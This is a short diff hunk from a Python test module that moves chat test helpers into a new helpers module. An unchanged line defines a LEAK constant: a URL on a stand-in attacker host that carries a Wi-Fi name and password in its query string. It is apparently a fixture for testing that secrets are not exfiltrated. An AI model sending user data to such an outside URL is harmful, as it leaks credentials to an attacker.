@@ -23,8 +23,8 @@ from grove.kernel.tenancy import tenant
 from grove.models import Job
 from tests import factories
 from tests.api.conftest import Caller, new_key
+from tests.ask.helpers import chat_requests, generate, start, submit, turn_of
 from tests.ask.test_ask import answer, index_all
-from tests.ask.test_conversations import chat_requests, generate, start, submit, turn_of
 from tests.notebooks.test_rendering_images import images_in
 
 LEAK = "https://attacker.example/c?d=wifi+hunter2"
